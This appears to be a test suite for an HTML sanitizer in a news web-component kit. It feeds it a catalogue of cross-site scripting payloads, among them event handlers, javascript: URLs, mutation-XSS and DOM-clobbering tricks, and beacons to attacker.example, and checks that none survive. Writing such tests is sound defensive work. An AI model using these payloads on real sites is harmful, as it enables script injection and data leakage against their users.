import { expect } from '@open-wc/testing';
import { show } from './support.js';

declare global {
  interface Window {
    hits: string[];
  }
}

/** Attributes that content may have, and those that the kit adds to it. */
const harmless = new Set(
  (
    'alt colspan datetime dir height href lang reversed rowspan span src start title value width ' +
    'loading decoding referrerpolicy scope rel target class part tabindex role aria-label'
  ).split(' '),
);
const dangerous =
  'script,style,link,meta,base,iframe,frame,object,embed,applet,form,input,button,textarea,select,svg,math,' +
  'template,audio,video,source,picture,dialog,slot,portal,noscript,title,body,html,head,canvas,marquee,' +
  'news-list,news-feed,news-article';

/** `run` stands for what an attack would run. Each input says "before" and "after" around it. */
const run = `hits.push('ran')`;
const attacks: Record<string, string[]> = {
  script: [
    `<script>${run}</script>`,
    `<SCRIPT SRC="data:text/javascript,${run}"></SCRIPT>`,
    `<scr<script></script>ipt>${run}</script>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    `<script type="module">${run}</script>`,
    `<script type="application/ld+json">{"@type":"NewsArticle"}</script>`,
  ],
  'event handlers': [
    `<img src="x" onerror="${run}">`,
    `<img/src=x/onerror=${run}>`,
    `<p onclick="${run}" onpointerenter="${run}" ONFOCUS="${run}">x</p>`,
    `<details open ontoggle="${run}">x</details>`,
    `<body onload="${run}"><p>x</p>`,
    `<video src=x onerror="${run}"><source onerror="${run}"></video>`,
    `<div onbeforetoggle="${run}" onanimationstart="${run}">x</div>`,
  ],
  'script addresses': [
    `<a href="javascript:${run}">x</a>`,
    `<a href="  JaVaScRiPt:${run}">x</a>`,
    `<a href="java\tscr\nipt:${run}">x</a>`,
    `<a href="&#1;javascript&colon;${run}">x</a>`,
    `<a href="javascript&#x3a;${run}">x</a>`,
    `<a href="vbscript:${run}">x</a>`,
    `<a href="data:text/html,<script>${run}</script>">x</a>`,
    `<a href="blob:https://www.example.org/x">x</a><a href="file:///etc/passwd">x</a>`,
    `<img src="javascript:${run}"><img src="data:image/svg+xml,<svg onload='${run}'/>">`,
    `<img srcset="x 1x, javascript:${run} 2x" src="x">`,
    `<a xlink:href="javascript:${run}" href="javascript:${run}">x</a>`,
  ],
  'svg and math': [
    `<svg onload="${run}"><script>${run}</script></svg>`,
    `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
    `<svg><animate onbegin="${run}" attributeName="x"></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}/>#x"></use></svg>`,
    `<math><maction actiontype="statusline#x" xlink:href="javascript:${run}">x</maction></math>`,
  ],
  'mutation XSS': [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${run}>"></style></svg>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    `<noembed><p title="</noembed><img src=x onerror=${run}>"></p></noembed>`,
    `<xmp><p title="</xmp><img src=x onerror=${run}>"></p></xmp>`,
    `<p title="&lt;/p>&lt;img src=x onerror=${run}&gt;">x</p>`,
    `<!--><img src=x onerror=${run}>-->`,
    `<![CDATA[<img src=x onerror=${run}>]]>`,
    `<title><p title="</title><img src=x onerror=${run}>"></title>`,
    `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  ],
  'templates and shadow roots': [
    `<template><img src=x onerror=${run}></template>`,
    `<div><template shadowrootmode="open"><script>${run}</script></template></div>`,
    `<slot name="error">x</slot>`,
  ],
  'frames and plug-ins': [
    `<iframe src="javascript:parent.${run}"></iframe>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<object data="javascript:${run}"></object><embed src="javascript:${run}">`,
    `<frameset><frame src="javascript:${run}"></frameset>`,
  ],
  'the document itself': [
    `<base href="https://attacker.example/">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
    `<link rel="stylesheet" href="https://attacker.example/x.css"><link rel="preconnect" href="https://attacker.example">`,
    `<style>* { display: none }</style><style>@import "https://attacker.example/x.css";</style>`,
    `<html manifest="x"><head><title>Hijacked</title></head><body bgcolor="red"></body></html>`,
  ],
  forms: [
    `<form action="javascript:${run}"><input type="password" name="p"><button>Send</button></form>`,
    `<form id="f"><input name="attributes"><input name="nodeName"><input name="childNodes"></form>`,
    `<form id="g"></form><input form="g" name="nextSibling"><input form="g" name="parentNode"><p>x</p>`,
    `<form><form><input name="removeChild"></form></form>`,
    `<textarea><img src=x onerror=${run}></textarea><select><option>x</option></select>`,
    `<button formaction="javascript:${run}" popovertarget="x" command="show-modal" commandfor="x">x</button>`,
  ],
  styles: [
    `<p style="position:fixed;inset:0;background:url(https://attacker.example/?x)">x</p>`,
    `<div class="article notice filled" part="error" slot="error">x</div>`,
    `<table background="https://attacker.example/x.png" bgcolor="red"><tr><td width="9999">x</td></tr></table>`,
  ],
  clobbering: [
    `<a id="hits" href="https://www.example.org/">x</a><img name="cookie" src="x">`,
    `<img name="body" src="x"><img name="createElement" src="x"><img id="implementation" src="x">`,
    `<a id="x"></a><a id="x" name="y" href="https://www.example.org/">x</a>`,
  ],
  'focus and keys': [
    `<p tabindex="1" autofocus contenteditable accesskey="x">x</p>`,
    `<dialog open>x</dialog><div popover="auto" id="p">x</div>`,
    `<p draggable="true" inert hidden>x</p>`,
  ],
  tracking: [
    `<a href="https://www.example.org/" ping="https://attacker.example/" attributionsrc download>x</a>`,
    `<img src="x" attributionsrc="https://attacker.example/" crossorigin referrerpolicy="unsafe-url">`,
  ],
  'other scripts of the page': [
    `<div data-bs-toggle="modal" data-toggle="tooltip" data-target="#x">x</div>`,
    `<div hx-get="/x" hx-trigger="load" data-hx-get="/x">x</div>`,
    `<div x-data x-init="${run}" @click="${run}" :class="x" x-html="x">x</div>`,
    `<div v-html="x" v-on:click="x" ng-app ng-init="x" is="x-y" data-fairwire="news-list">x</div>`,
    `<div data-controller="x" data-action="click->x" data-turbo="true" jsaction="x" nonce="x">x</div>`,
  ],
  'elements of the kit': [
    `<news-list src="/feed/en.json"><a href="https://www.example.org/">x</a></news-list>`,
    `<news-feed><news-article><p role="alert" aria-live="assertive">x</p></news-article></news-feed>`,
  ],
};

describe('hostile content', () => {
  beforeEach(() => {
    window.hits = [];
  });

  for (const [family, inputs] of Object.entries(attacks))
    describe(family, () => {
      for (const input of inputs)
        it(input.slice(0, 70), async () => {
          const box = await show(`<p>before</p>${input}<p>after</p>`);
          box.addEventListener('click', (event) => event.preventDefault());
          for (const target of box.querySelectorAll<HTMLElement>('*')) {
            target.dispatchEvent(new Event('click', { bubbles: true, cancelable: true }));
            const unknown = target.getAttributeNames().filter((name) => !harmless.has(name));
            expect(unknown, target.outerHTML).to.deep.equal([]);
          }
          expect(box.querySelector(dangerous), box.innerHTML).to.equal(null);
          for (const { href } of box.querySelectorAll('a')) expect(href).to.match(/^https?:/);
          for (const { src } of box.querySelectorAll('img')) expect(src).to.match(/^https?:/);
          // What a broken image runs, it has run by then.
          await Promise.all([...box.querySelectorAll('img')].map((image) => image.decode().catch(() => {})));
          expect(window.hits).to.deep.equal([]);
          expect(box.textContent).to.match(/^before/);
          if (!/<noembed|<xmp|<title|<!-->|frameset|mglyph><style>/.test(input))
            expect(box.textContent).to.match(/after\s*$/);
        });
    });

  it('leaves the markers of templates as text', async () => {
    const text = '{{ constructor.constructor("x")() }} ${x} <!--lit-part--> ?lit$1$ <%= x %>';
    const box = await show(`<p>${text.replace(/</g, '&lt;')}</p>`);
    expect(box.textContent).to.equal(text);
  });

  it('takes bidi overrides out of the text, also written as references', async () => {
    const box = await show('<p>pay &#x202e;gnihton\u2066 now</p>');
    expect(box.textContent).to.equal('pay gnihton now');
  });

  it('says what is in an element it does not know, once', async () => {
    const box = await show('<blink><font face="x">A <my-thing>B</my-thing></font></blink> C');
    expect(box.innerHTML).to.equal('A B C');
  });
});
